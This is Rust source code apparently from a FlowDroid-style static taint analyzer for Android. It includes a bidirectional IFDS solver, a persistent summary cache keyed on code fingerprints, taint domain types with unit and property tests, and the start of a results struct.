                // recorded later are covered by the call side
                // ([`Self::backward_call`] re-injects after its
                // `add_incoming`).
                for (exit, d2x) in self.fw.summaries_for(m, d1) {
                    for (site, d4) in &contexts {
                        self.apply_return_for_context(*site, m, exit, &d2x, d4);
                    }
                }
            }
            return;
        }
        for pred in preds {
            self.bw_propagate(d1.clone(), pred, d.clone(), origin.clone());
        }
    }

    fn backward_assign(
        &mut self,
        d1: &D::Key,
        n: StmtRef,
        d2: &D::Key,
        d2f: &Fact,
        lhs: &flowdroid_ir::Place,
        rhs: &flowdroid_ir::Rvalue,
    ) {
        let Fact::T(t) = d2f else { return };
        let flows = self.flows.backward_assign(t, lhs, rhs);
        let origin = Some((n, d2.clone()));
        for g in flows.back {
            let k = self.dom.intern(&Fact::T(g));
            self.bw_to_preds_from(d1, n, &k, origin.clone());
        }
        for g in flows.fwd_at_n {
            let k = self.dom.intern(&Fact::T(g));
            self.fw_propagate(d1.clone(), n, k, origin.clone());
        }
        for g in flows.fwd_after {
            let k = self.dom.intern(&Fact::T(g));
            for succ in self.flows.icfg.succs_of(n) {
                self.fw_propagate(d1.clone(), succ, k.clone(), origin.clone());
            }
        }
    }

    fn backward_call(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let Stmt::Invoke { result, call } = self.stmt(n) else { return };
        let (result, call) = (*result, call.clone());
        let Fact::T(t) = d2f else { return };
        // Pass over the call unless the traced value is its result.
        let rooted_at_result = result.is_some() && t.ap.base_local() == result;
        if !rooted_at_result {
            self.bw_to_preds(d1, n, d2);
        }
        // Descend into body-having callees (aliases may be created
        // inside).
        let callees: Vec<MethodId> = self.flows.icfg.callees_of_call(n).to_vec();
        for callee in callees {
            for (g, exits) in self.flows.backward_call_entries(t, result, &call, callee) {
                let gk = self.dom.intern(&Fact::T(g));
                self.bw.add_incoming(callee, gk.clone(), n, d2.clone());
                for exit in exits {
                    self.bw_propagate(gk.clone(), exit, gk.clone(), Some((n, d2.clone())));
                }
                // If the backward search already reached this callee's
                // start with entry fact `g` (a backward start-summary
                // exists), the forward handoff for `g` has run and did
                // not see this context: inject it now and apply any
                // forward summaries so returns reach this caller too.
                // Together with the handoff side (which injects all
                // contexts known at handoff time) every (context,
                // summary) pair is applied regardless of order.
                if !self.bw.summaries_for(callee, &gk).is_empty() {
                    self.fw.inject_incoming(callee, gk.clone(), vec![(n, d2.clone())]);
                    for (exit, d2x) in self.fw.summaries_for(callee, &gk) {
                        self.apply_return_for_context(n, callee, exit, &d2x, d2);
                    }
                }
            }
        }
    }

    // ================= results =================

    fn collect_results(mut self, duration: std::time::Duration) -> InfoflowResults {
        let program = self.program();
        let summary_cache = self.cache.as_ref().map(|c| {
            // Only a completed fixpoint is persisted — partial
            // summaries from an aborted run would be unsound to replay.
            if self.abort_reason.is_none() {
                let resolved = self
                    .fw
                    .all_summaries()
                    .into_iter()
                    .map(|(m, d1, exits)| {
                        (
                            m,
                            self.dom.resolve(&d1),
                            exits.iter().map(|(e, k)| (*e, self.dom.resolve(k))).collect(),
                        )
                    })
                    .collect();
                c.record_all(program, resolved);
            }
            c.stats()
        });
        // Canonical order before (sink, source) dedup: recorded leaks
        // are sorted by (sink, taint value) so which representative
        // survives never depends on discovery order.
        let mut recorded = std::mem::take(&mut self.leaks);
        recorded.sort();
        recorded.dedup();
        let mut seen = std::collections::HashSet::new();
        let mut leaks = Vec::new();
        for (sink, taint) in &recorded {
            let (source, path) = self.attribute(*sink, taint);
            let key = (*sink, source);
            if !seen.insert(key) {
                continue;
            }
            leaks.push(Leak {
                sink: *sink,
                source,
                taint: taint.ap.display(program, sink.method),
                path,
            });
        }
        leaks.sort_by_key(|l| (l.sink, l.source));
        let (distinct_facts, distinct_aps) = self.dom.stats().unwrap_or((0, 0));
        let fact_tables = {
            let mut t = self.fw.table_stats();
            t.merge(&self.bw.table_stats());
            t.widened_facts = self.dom.widened_count();
            (t.any() || t.widened_facts > 0).then_some(t)
        };
        InfoflowResults {
            leaks,
            forward_propagations: self.fw.propagation_count(),
            backward_propagations: self.bw.propagation_count(),
            reachable_methods: self.flows.icfg.callgraph().reachable_methods().len(),
            distinct_facts,
            distinct_aps,
            duration,
            aborted: self.abort_reason.is_some(),
            abort_reason: self.abort_reason,
            scheduler: None,
            fact_tables,
            summary_cache,
        }
    }

    /// Walks the provenance graph back from a leak to the source that
    /// generated the taint.
    ///
    /// Breadth-first search with the origin sets expanded in (statement,
    /// fact *value*) order: the provenance graph is order-independent
    /// (see [`BiSolver::record_pred`]), so the first generating source
    /// this walk reaches — and the parent chain behind it — is the same
    /// whatever order the solver discovered the edges in. Cycles in the
    /// graph are harmless: the visited set skips them and the search
    /// continues through the remaining origins.
    fn attribute(&mut self, sink: StmtRef, taint: &Taint) -> (Option<StmtRef>, Vec<StmtRef>) {
        if !self.config().track_paths {
            return (None, Vec::new());
        }
        let sink_key = self.dom.intern(&Fact::T(*taint));
        let start = (sink, sink_key);
        let mut visited = std::collections::HashSet::new();
        visited.insert(start.clone());
        let mut parent: FxHashMap<(StmtRef, D::Key), (StmtRef, D::Key)> = FxHashMap::default();
        let mut queue = std::collections::VecDeque::from([start]);
        while let Some(cur) = queue.pop_front() {
            if let Some(&src) = self.gen_source.get(&cur) {
                // Parents lead from the generation point back to the
                // sink, so the collected path is already source-first.
                let mut path = vec![cur.0];
                let mut walk = cur;
                while let Some(p) = parent.get(&walk) {
                    path.push(p.0);
                    walk = p.clone();
                }
                return (Some(src), path);
            }
            let mut origins = self.preds.get(&cur).cloned().unwrap_or_default();
            origins.sort_by_cached_key(|(s, k)| (*s, self.dom.resolve(k)));
            for o in origins {
                if visited.insert(o.clone()) {
                    parent.insert(o.clone(), cur.clone());
                    queue.push_back(o);
                }
            }
        }
        (None, vec![sink])
    }
}
