//! The persistent summary cache: incremental re-analysis across apps.
//!
//! Bridges the taint engines to the on-disk end-summary store of
//! `flowdroid-summaries`. Before tabulating a callee, the engines ask
//! [`SummaryCacheSession::lookup`] whether end summaries for
//! `(callee, entry fact)` were persisted by an earlier run *under the
//! same code and configuration*; on a hit the callee's body is not
//! re-seeded — the cached exits are installed directly and the normal
//! return handling applies them. At the fixpoint,
//! [`SummaryCacheSession::record_all`] stages every computed summary of
//! a cacheable method for persistence (written to disk by
//! [`flush_summary_cache`]).
//!
//! Two guards make replaying a summary sound:
//!
//! * **Transitive code fingerprint** — a method's stored summaries are
//!   keyed on a hash covering its own body
//!   ([`flowdroid_ir::body_fingerprint`]), the resolved signatures of
//!   every call it makes, and — recursively — the same for everything
//!   it transitively calls. Any change in that closure makes the stored
//!   entry *stale*.
//! * **Cacheable predicate** — a method is cacheable only if nothing in
//!   its transitive closure generates or consumes taints by itself:
//!   no source calls (including password-field lookups), no sinks, no
//!   parameter-source overrides. An end summary then captures the
//!   method's complete externally visible taint behavior: the backward
//!   alias solver never ascends into callers on its own (all upward
//!   effects are mediated by forward end summaries, which is exactly
//!   what is cached), and caller-side alias searches for returned heap
//!   taints are spawned at the call site during return handling, which
//!   runs identically on cached and computed summaries.
//!
//! Everything stored is *symbolic* (signature strings, class + field
//!   names, raw local slots) and re-interned into this process's arenas
//! when the session opens; per-process arena ids never reach the disk.
//! The configuration context (bound, switches, source/sink and wrapper
//! fingerprints) is hashed into the store identity, so incompatible
//! configurations never share summaries. Thread count, propagation
//! budget and fact-interning mode are deliberately *excluded* — they
//! change engine mechanics, not the fixpoint — so sequential and
//! parallel runs share one cache.

use crate::access_path::{AccessPath, ApBase};
use crate::config::InfoflowConfig;
use crate::sourcesink::SourceSinkManager;
use crate::taint::{Fact, Taint};
use crate::wrappers::TaintWrapper;
use flowdroid_callgraph::Icfg;
use flowdroid_ir::{
    body_fingerprint, fxhash64, FieldId, FxHashMap, FxHashSet, Local, MethodId, Program, StmtRef,
};
use flowdroid_summaries::{
    open_shared_ns, SharedStore, SymAp, SymBase, SymFact, SymField, SymStmt, SymSummary,
};
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// Flushes all summaries staged for `dir` during analyses in this
/// process to the on-disk store (merging with what was already there).
/// Until this is called, fresh summaries are invisible — a run never
/// consumes its own discoveries.
///
/// # Errors
///
/// Returns any I/O error from writing the store file.
pub fn flush_summary_cache(dir: &Path) -> std::io::Result<()> {
    flowdroid_summaries::flush_dir(dir)
}

/// Hit/miss statistics of one analysis run's summary-cache session.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SummaryCacheStats {
    /// Lookups answered from the store (callee body not re-seeded).
    pub hits: u64,
    /// Lookups for cacheable callees with nothing stored.
    pub misses: u64,
    /// Lookups rejected because the stored entry was computed under a
    /// different transitive code fingerprint.
    pub stale: u64,
    /// Methods visible in the store when the session opened.
    pub store_methods: usize,
    /// Summary entries staged for persistence at the fixpoint.
    pub recorded: u64,
    /// Set when an existing store file could not be loaded (the cache
    /// then started cold).
    pub load_error: Option<String>,
}

/// Per-method fingerprint info computed when the session opens.
struct MethodInfo {
    /// Hash over the method's transitive callee closure.
    trans_hash: u64,
    /// Whether summaries of this method may be cached / replayed.
    cacheable: bool,
}

/// Per-method facts from the first scan, before closures are formed.
struct LocalInfo {
    /// Hash of the method's own body plus its resolved callee
    /// signatures.
    local_hash: u64,
    /// The method itself generates or consumes taints (source, sink or
    /// parameter-source override).
    impure: bool,
    /// Resolved callees of every call site in the body.
    callees: Vec<MethodId>,
}

/// One analysis run's connection to the shared store: resolved lookup
/// tables plus hit/miss counters. Built once per solver, consulted from
/// any number of worker threads.
pub(crate) struct SummaryCacheSession {
    store: Arc<SharedStore>,
    info: FxHashMap<MethodId, MethodInfo>,
    /// `(callee, entry fact)` → canonically sorted exits, pre-resolved
    /// from the store's symbolic form into this process's arenas.
    resolved: FxHashMap<(MethodId, Fact), Vec<(StmtRef, Fact)>>,
    /// Methods present in the store under a different fingerprint.
    stale_methods: FxHashSet<MethodId>,
    hits: AtomicU64,
    misses: AtomicU64,
    stale: AtomicU64,
    recorded: AtomicU64,
}

impl SummaryCacheSession {
    /// Opens the store under `dir` and resolves every stored summary
    /// that matches this program's fingerprints into lookup-ready form.
    pub(crate) fn new(
        dir: &Path,
        icfg: &Icfg<'_>,
        sources: &SourceSinkManager,
        wrapper: &TaintWrapper,
        config: &InfoflowConfig,
    ) -> Self {
        let program = icfg.program();
        // The namespace keys a disjoint store; it is *not* part of the
        // context hash — isolation comes from separate stores.
        let store = open_shared_ns(
            dir,
            &config.cache_namespace,
            context_hash(config, sources, wrapper),
        );
        let reachable = icfg.callgraph().reachable_methods();

        // Pass 1: per-method body hash, purity, and resolved callees.
        let mut local: FxHashMap<MethodId, LocalInfo> = FxHashMap::default();
        for &m in reachable {
            local.insert(m, scan_method(program, icfg, sources, m));
        }

        // Pass 2: transitive closure hash + cacheability per method.
        let mut info: FxHashMap<MethodId, MethodInfo> = FxHashMap::default();
        for &m in reachable {
            info.insert(m, close_over(program, &local, m));
        }

        // Pass 3: resolve stored symbolic summaries against this
        // program. Entries that no longer resolve (vanished classes,
        // fields or statements) are skipped — they read as misses.
        let mut sig_to_id: FxHashMap<String, MethodId> = FxHashMap::default();
        for m in program.methods() {
            sig_to_id.insert(program.signature(m.id()), m.id());
        }
        let mut resolved: FxHashMap<(MethodId, Fact), Vec<(StmtRef, Fact)>> =
            FxHashMap::default();
        let mut stale_methods: FxHashSet<MethodId> = FxHashSet::default();
        store.with_visible(|s| {
            for (sig, ms) in s.iter() {
                let Some(&m) = sig_to_id.get(sig) else { continue };
                let Some(mi) = info.get(&m) else { continue };
                if !mi.cacheable {
                    continue;
                }
                if ms.body_hash != mi.trans_hash {
                    stale_methods.insert(m);
                    continue;
                }
                'entries: for (entry, exits) in &ms.entries {
                    let Some(entry) = sym_to_fact(program, &sig_to_id, entry) else {
                        continue;
                    };
                    let mut out = Vec::with_capacity(exits.len());
                    for s in exits {
                        let idx = s.exit_idx as usize;
                        if !valid_stmt(program, m, idx) {
                            continue 'entries;
                        }
                        let Some(f) = sym_to_fact(program, &sig_to_id, &s.fact) else {
                            continue 'entries;
                        };
                        out.push((StmtRef::new(m, idx), f));
                    }
                    out.sort();
                    resolved.insert((m, entry), out);
                }
            }
        });

        SummaryCacheSession {
            store,
            info,
            resolved,
            stale_methods,
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            stale: AtomicU64::new(0),
            recorded: AtomicU64::new(0),
        }
    }

    /// Stored end summaries for `(callee, entry)`, if the callee is
    /// cacheable and the store has a fingerprint-matching entry.
    /// Uncacheable callees are not counted — they can never hit.
    pub(crate) fn lookup(&self, callee: MethodId, entry: &Fact) -> Option<&[(StmtRef, Fact)]> {
        if !self.info.get(&callee).is_some_and(|i| i.cacheable) {
            return None;
        }
        if let Some(exits) = self.resolved.get(&(callee, *entry)) {
            self.hits.fetch_add(1, Ordering::Relaxed);
            return Some(exits);
        }
        if self.stale_methods.contains(&callee) {
            self.stale.fetch_add(1, Ordering::Relaxed);
        } else {
            self.misses.fetch_add(1, Ordering::Relaxed);
        }
        None
    }

    /// Hits so far, mid-solve (progress streaming).
    pub(crate) fn hits_so_far(&self) -> u64 {
        self.hits.load(Ordering::Relaxed)
    }

    /// Stages the fixpoint's end summaries of every cacheable method
    /// for persistence. Entries already visible in the store are
    /// skipped by the store itself (they came *from* it).
    pub(crate) fn record_all(
        &self,
        program: &Program,
        summaries: Vec<(MethodId, Fact, Vec<(StmtRef, Fact)>)>,
    ) {
        for (m, entry, exits) in summaries {
            let Some(mi) = self.info.get(&m) else { continue };
            if !mi.cacheable {
                continue;
            }
            let sym_entry = fact_to_sym(program, &entry);
            let sym_exits = exits
                .iter()
                .map(|(exit, f)| SymSummary {
                    exit_idx: exit.idx as u32,
                    fact: fact_to_sym(program, f),
                })
                .collect();
            self.store.record(&program.signature(m), mi.trans_hash, sym_entry, sym_exits);
            self.recorded.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// The session's counters, for results reporting.
    pub(crate) fn stats(&self) -> SummaryCacheStats {
        SummaryCacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            stale: self.stale.load(Ordering::Relaxed),
            store_methods: self.store.visible_methods(),
            recorded: self.recorded.load(Ordering::Relaxed),
            load_error: self.store.load_error().map(str::to_owned),
        }
    }
}

/// Hash of everything in the configuration that shapes the computed
/// fixpoint. Thread count, propagation budget, path tracking and
/// fact-interning mode are excluded — they do not change which
/// summaries hold.
fn context_hash(
    config: &InfoflowConfig,
    sources: &SourceSinkManager,
    wrapper: &TaintWrapper,
) -> u64 {
    fxhash64(&(
        config.max_access_path_length,
        config.enable_alias_analysis,
        config.enable_context_injection,
        config.enable_activation_statements,
        config.stub_default_taints_return,
        format!("{:?}/{:?}", config.cg_algorithm, config.callback_association),
        sources.fingerprint(),
        wrapper.fingerprint(),
    ))
}

/// First-scan facts of one method: body hash extended with resolved
/// callee signatures, source/sink purity, and the callee list.
fn scan_method(
    program: &Program,
    icfg: &Icfg<'_>,
    sources: &SourceSinkManager,
    m: MethodId,
) -> LocalInfo {
    let mut impure = !sources.entry_param_sources(program, m).is_empty();
    let mut callees: Vec<MethodId> = Vec::new();
    let mut cg: Vec<(u32, String)> = Vec::new();
    if let Some(body) = program.method(m).body() {
        for (idx, stmt) in body.stmts().iter().enumerate() {
            if let Some(call) = stmt.invoke_expr() {
                if sources.is_source_call(program, call)
                    || !sources.sink_args(program, call).is_empty()
                {
                    impure = true;
                }
                for &callee in icfg.callees_of_call(StmtRef::new(m, idx)) {
                    cg.push((idx as u32, program.signature(callee)));
                    if !callees.contains(&callee) {
                        callees.push(callee);
                    }
                }
            }
        }
    }
    let local_hash = fxhash64(&(body_fingerprint(program, m), cg));
    LocalInfo { local_hash, impure, callees }
}

/// Transitive-closure hash and cacheability of one method. The closure
/// is walked over the resolved callee lists; the hash is over the
/// *sorted* `(signature, local hash)` pairs so it does not depend on
/// discovery order. A callee outside the scanned set (should not
/// happen — callees of reachable methods are reachable) disables
/// caching defensively.
fn close_over(
    program: &Program,
    local: &FxHashMap<MethodId, LocalInfo>,
    m: MethodId,
) -> MethodInfo {
    let mut seen: FxHashSet<MethodId> = FxHashSet::default();
    let mut stack = vec![m];
    let mut items: Vec<(String, u64)> = Vec::new();
    let mut cacheable = true;
    while let Some(cur) = stack.pop() {
        if !seen.insert(cur) {
            continue;
        }
        let Some(li) = local.get(&cur) else {
            cacheable = false;
            continue;
        };
        if li.impure {
            cacheable = false;
        }
        items.push((program.signature(cur), li.local_hash));
        stack.extend(li.callees.iter().copied());
    }
    items.sort();
    MethodInfo { trans_hash: fxhash64(&items), cacheable }
}

fn valid_stmt(program: &Program, m: MethodId, idx: usize) -> bool {
    program.method(m).body().is_some_and(|b| idx < b.stmts().len())
}

fn field_to_sym(program: &Program, f: FieldId) -> SymField {
    let fd = program.field(f);
    SymField {
        class: program.class_name(fd.class()).to_owned(),
        name: program.str(fd.name()).to_owned(),
    }
}

fn sym_to_field(program: &Program, f: &SymField) -> Option<FieldId> {
    let class = program.find_class(&f.class)?;
    let name = program.lookup_symbol(&f.name)?;
    program.resolve_field(class, name)
}

fn fact_to_sym(program: &Program, f: &Fact) -> SymFact {
    match f {
        Fact::Zero => SymFact::Zero,
        Fact::T(t) => SymFact::Taint {
            ap: SymAp {
                base: match t.ap.base() {
                    ApBase::Local(l) => SymBase::Local(l.0),
                    ApBase::Static(f) => SymBase::Static(field_to_sym(program, f)),
                },
                fields: t.ap.fields().iter().map(|&f| field_to_sym(program, f)).collect(),
                truncated: t.ap.is_truncated(),
            },
            active: t.active,
            activation: t.activation.map(|s| SymStmt {
                method: program.signature(s.method),
                idx: s.idx as u32,
            }),
        },
    }
}

fn sym_to_fact(
    program: &Program,
    sig_to_id: &FxHashMap<String, MethodId>,
    f: &SymFact,
) -> Option<Fact> {
    match f {
        SymFact::Zero => Some(Fact::Zero),
        SymFact::Taint { ap, active, activation } => {
            let base = match &ap.base {
                SymBase::Local(slot) => ApBase::Local(Local(*slot)),
                SymBase::Static(f) => ApBase::Static(sym_to_field(program, f)?),
            };
            let mut fields = Vec::with_capacity(ap.fields.len());
            for f in &ap.fields {
                fields.push(sym_to_field(program, f)?);
            }
            let activation = match activation {
                None => None,
                Some(s) => {
                    let m = *sig_to_id.get(&s.method)?;
                    let idx = s.idx as usize;
                    if !valid_stmt(program, m, idx) {
                        return None;
                    }
                    Some(StmtRef::new(m, idx))
                }
            };
            Some(Fact::T(Taint {
                ap: AccessPath::from_raw_parts(base, &fields, ap.truncated),
                active: *active,
                activation,
            }))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{MethodBuilder, Type};

    #[test]
    fn context_hash_tracks_configuration() {
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let base = InfoflowConfig::default();
        let h = context_hash(&base, &sources, &wrapper);
        // Same inputs, same hash.
        assert_eq!(h, context_hash(&base.clone(), &sources, &wrapper));
        // Fixpoint-shaping options change the context.
        let other = base.clone().with_access_path_length(3);
        assert_ne!(h, context_hash(&other, &sources, &wrapper));
        let other = base.clone().with_alias_analysis(false);
        assert_ne!(h, context_hash(&other, &sources, &wrapper));
        // Different source lists change the context.
        let fewer = SourceSinkManager::new();
        assert_ne!(h, context_hash(&base, &fewer, &wrapper));
        // Engine mechanics do not.
        let mut threads = base.clone();
        threads.taint_threads = 4;
        threads.intern_facts = false;
        threads.track_paths = false;
        assert_eq!(h, context_hash(&threads, &sources, &wrapper));
    }

    #[test]
    fn facts_round_trip_symbolically() {
        let mut p = Program::new();
        let c = p.declare_class("com.example.Holder", None, &[]);
        let fid = p.declare_field(c, "data", Type::Int, false);
        let sid = p.declare_field(c, "shared", Type::Int, true);
        let owner = p.declare_class("com.example.T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, owner, "t", vec![], Type::Void);
        let hty = b.program().ref_type("com.example.Holder");
        let l = b.local("h", hty);
        b.ret(None);
        let m = b.finish();

        let mut sig_to_id: FxHashMap<String, MethodId> = FxHashMap::default();
        sig_to_id.insert(p.signature(m), m);

        let act = StmtRef::new(m, 0);
        let cases = [
            Fact::Zero,
            Fact::T(Taint::active(AccessPath::local(l))),
            Fact::T(Taint::active(AccessPath::new(ApBase::Local(l), vec![fid], 5))),
            Fact::T(Taint::inactive(AccessPath::static_field(sid), act)),
            Fact::T(Taint::active(AccessPath::from_raw_parts(
                ApBase::Local(l),
                &[fid],
                true,
            ))),
        ];
        for f in cases {
            let sym = fact_to_sym(&p, &f);
            let back = sym_to_fact(&p, &sig_to_id, &sym).expect("resolvable");
            assert_eq!(back, f);
        }
        // Unresolvable symbols are rejected, not mangled.
        let missing = SymFact::Taint {
            ap: SymAp {
                base: SymBase::Static(SymField { class: "gone.Cls".into(), name: "f".into() }),
                fields: vec![],
                truncated: false,
            },
            active: true,
            activation: None,
        };
        assert!(sym_to_fact(&p, &sig_to_id, &missing).is_none());
        let bad_activation = SymFact::Taint {
            ap: SymAp { base: SymBase::Local(0), fields: vec![], truncated: false },
            active: false,
            activation: Some(SymStmt { method: "<gone: void g()>".into(), idx: 0 }),
        };
        assert!(sym_to_fact(&p, &sig_to_id, &bad_activation).is_none());
    }

    /// Builds the arena a property-test fact lives in. With `skew`, a
    /// padding class and field are declared first so every arena id
    /// (class, field, method) differs from the unskewed build —
    /// resolution after the wire trip must go by name, never by id.
    fn build_arena(skew: bool) -> (Program, Vec<FieldId>, FieldId, MethodId) {
        let mut p = Program::new();
        if skew {
            let pad = p.declare_class("pad.Cls", None, &[]);
            p.declare_field(pad, "pad", flowdroid_ir::Type::Int, false);
        }
        let c = p.declare_class("com.example.Holder", None, &[]);
        let fields = vec![
            p.declare_field(c, "f0", flowdroid_ir::Type::Int, false),
            p.declare_field(c, "f1", flowdroid_ir::Type::Int, false),
            p.declare_field(c, "f2", flowdroid_ir::Type::Int, false),
        ];
        let st = p.declare_field(c, "shared", flowdroid_ir::Type::Int, true);
        let owner = p.declare_class("com.example.T", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, owner, "t", vec![], Type::Void);
        b.ret(None);
        let m = b.finish();
        (p, fields, st, m)
    }

    fn make_fact(
        kind: u32,
        slot: u32,
        picks: &[usize],
        truncated: bool,
        fields: &[FieldId],
        st: FieldId,
        m: MethodId,
    ) -> Fact {
        if kind == 0 {
            return Fact::Zero;
        }
        let chain: Vec<FieldId> = picks.iter().map(|i| fields[*i]).collect();
        let base = if kind == 3 { ApBase::Static(st) } else { ApBase::Local(Local(slot)) };
        let ap = AccessPath::from_raw_parts(base, &chain, truncated);
        match kind {
            2 => Fact::T(Taint::inactive(ap, StmtRef::new(m, 0))),
            _ => Fact::T(Taint::active(ap)),
        }
    }

    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(48))]

        /// A random fact converted to symbolic form, pushed through the
        /// wire encoding, and resolved into a *fresh* program whose
        /// arena ids are all shifted comes back as exactly the
        /// corresponding fact of the new arena.
        #[test]
        fn facts_survive_wire_and_fresh_arena(
            kind in 0u32..4,
            slot in 0u32..3,
            picks in proptest::collection::vec(0usize..3, 0..4),
            trunc in 0u32..2,
        ) {
            let (pa, fa, sta, ma) = build_arena(false);
            let (pb, fb, stb, mb) = build_arena(true);
            let fact_a = make_fact(kind, slot, &picks, trunc == 1, &fa, sta, ma);
            let expected_b = make_fact(kind, slot, &picks, trunc == 1, &fb, stb, mb);

            let sym = fact_to_sym(&pa, &fact_a);
            let mut store = flowdroid_summaries::SummaryStore::new(7);
            store.insert(
                &pa.signature(ma),
                11,
                sym,
                vec![SymSummary { exit_idx: 0, fact: fact_to_sym(&pa, &fact_a) }],
            );
            let decoded =
                flowdroid_summaries::SummaryStore::from_bytes(&store.to_bytes()).unwrap();

            let mut sig_to_id: FxHashMap<String, MethodId> = FxHashMap::default();
            sig_to_id.insert(pb.signature(mb), mb);
            let (_, summaries) = decoded.iter().next().unwrap();
            for (entry, exits) in &summaries.entries {
                let back = sym_to_fact(&pb, &sig_to_id, entry).expect("entry resolves");
                prop_assert_eq!(&back, &expected_b);
                for s in exits {
                    let back = sym_to_fact(&pb, &sig_to_id, &s.fact).expect("exit resolves");
                    prop_assert_eq!(&back, &expected_b);
                }
            }
        }
    }
}
