//! The taint abstraction domain.

use crate::access_path::AccessPath;
use flowdroid_ir::StmtRef;

/// A taint: an access path plus its activation state (paper §4.2).
///
/// Taints produced directly from sources are *active*. Taints produced
/// by the backward alias analysis are *inactive* and carry the heap
/// write that spawned the alias search as their **activation
/// statement**; they only report at sinks after forward propagation has
/// crossed that statement (or a call transitively containing it).
/// `Copy` (the access path holds an arena-interned field slice) and
/// `Ord` (value-based, used for canonical tie-breaking in provenance
/// and leak collection so results are independent of discovery order).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct Taint {
    /// The tainted access path.
    pub ap: AccessPath,
    /// Whether the taint currently counts as a leak at sinks.
    pub active: bool,
    /// The heap write whose execution activates this taint (set only
    /// for alias-derived taints).
    pub activation: Option<StmtRef>,
}

impl Taint {
    /// An active taint on `ap`.
    pub fn active(ap: AccessPath) -> Taint {
        Taint { ap, active: true, activation: None }
    }

    /// An inactive alias taint with the given activation statement.
    pub fn inactive(ap: AccessPath, activation: StmtRef) -> Taint {
        Taint { ap, active: false, activation: Some(activation) }
    }

    /// The same taint on a different access path (activation state is
    /// preserved — derived taints inherit it).
    pub fn with_ap(&self, ap: AccessPath) -> Taint {
        Taint { ap, active: self.active, activation: self.activation }
    }

    /// The activated version of this taint.
    pub fn activated(&self) -> Taint {
        Taint { ap: self.ap.clone(), active: true, activation: None }
    }
}

/// The IFDS fact: the tautological zero or a taint.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub enum Fact {
    /// The always-true fact threaded through the whole supergraph.
    Zero,
    /// A taint.
    T(Taint),
}

impl Fact {
    /// The taint, if this is not the zero fact.
    pub fn taint(&self) -> Option<&Taint> {
        match self {
            Fact::Zero => None,
            Fact::T(t) => Some(t),
        }
    }

    /// Returns `true` for the zero fact.
    pub fn is_zero(&self) -> bool {
        matches!(self, Fact::Zero)
    }
}

impl From<Taint> for Fact {
    fn from(t: Taint) -> Fact {
        Fact::T(t)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{Local, MethodId};

    #[test]
    fn activation_lifecycle() {
        let ap = AccessPath::local(Local(0));
        let act = StmtRef::new(MethodId::from_index(0), 3);
        let t = Taint::inactive(ap.clone(), act);
        assert!(!t.active);
        let a = t.activated();
        assert!(a.active);
        assert_eq!(a.activation, None);
        assert_ne!(Fact::T(t), Fact::T(a));
    }

    #[test]
    fn with_ap_preserves_state() {
        let ap = AccessPath::local(Local(0));
        let ap2 = AccessPath::local(Local(1));
        let act = StmtRef::new(MethodId::from_index(0), 3);
        let t = Taint::inactive(ap, act).with_ap(ap2.clone());
        assert_eq!(t.ap, ap2);
        assert!(!t.active);
        assert_eq!(t.activation, Some(act));
    }

    #[test]
    fn zero_fact() {
        assert!(Fact::Zero.is_zero());
        assert!(Fact::Zero.taint().is_none());
        let t = Taint::active(AccessPath::local(Local(0)));
        assert!(Fact::from(t.clone()).taint().is_some());
    }
}
