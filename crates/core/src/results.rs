//! Analysis results: discovered source-to-sink flows with paths.

use flowdroid_ifds::AbortReason;
use flowdroid_ir::{Program, StmtRef};
use std::collections::BTreeSet;

/// One discovered leak: tainted data reaching a sink.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Leak {
    /// The sink call statement.
    pub sink: StmtRef,
    /// The source statement that produced the taint, when path tracking
    /// could attribute it.
    pub source: Option<StmtRef>,
    /// Human-readable description of the tainted access path at the
    /// sink.
    pub taint: String,
    /// The propagation path from source to sink (statement references,
    /// source first), when path tracking is enabled.
    pub path: Vec<StmtRef>,
}

impl Leak {
    /// The source line of the sink statement (0 when unknown).
    pub fn sink_line(&self, program: &Program) -> u32 {
        line_of(program, self.sink)
    }

    /// The source line of the source statement (0 when unknown).
    pub fn source_line(&self, program: &Program) -> u32 {
        self.source.map_or(0, |s| line_of(program, s))
    }
}

pub(crate) fn line_of(program: &Program, s: StmtRef) -> u32 {
    program.method(s.method).body().map_or(0, |b| b.line(s.idx))
}

/// All results of one analysis run.
#[derive(Clone, Debug, Default)]
pub struct InfoflowResults {
    /// Discovered leaks, deduplicated by (source, sink).
    pub leaks: Vec<Leak>,
    /// Forward path-edge propagations performed.
    pub forward_propagations: u64,
    /// Backward (alias) path-edge propagations performed.
    pub backward_propagations: u64,
    /// Methods reachable from the entry points.
    pub reachable_methods: usize,
    /// Distinct facts hash-consed by the solver's interner (0 when
    /// interning is disabled).
    pub distinct_facts: usize,
    /// Distinct access paths hash-consed by the solver's interner (0
    /// when interning is disabled).
    pub distinct_aps: usize,
    /// Wall-clock duration of the data-flow phase.
    pub duration: std::time::Duration,
    /// Set when the run was aborted before reaching the fixpoint — the
    /// propagation budget ([`crate::InfoflowConfig::max_propagations`])
    /// ran out, the wall-clock deadline passed, or the job was
    /// cancelled ([`crate::InfoflowConfig::abort`]). The reported leaks
    /// are then a lower bound and no summaries were staged.
    pub aborted: bool,
    /// Why the run aborted, when [`InfoflowResults::aborted`] is set.
    pub abort_reason: Option<AbortReason>,
    /// Work-stealing scheduler counters, present when the parallel taint
    /// engine ran ([`crate::InfoflowConfig::taint_threads`] > 0).
    pub scheduler: Option<flowdroid_ifds::SchedulerStats>,
    /// Tabulation-table density and widening counters, present when the
    /// solver ran on bitset-backed tables
    /// ([`crate::InfoflowConfig::bitset_tables`]).
    pub fact_tables: Option<flowdroid_ifds::TableStats>,
    /// Summary-cache counters, present when a persistent summary store
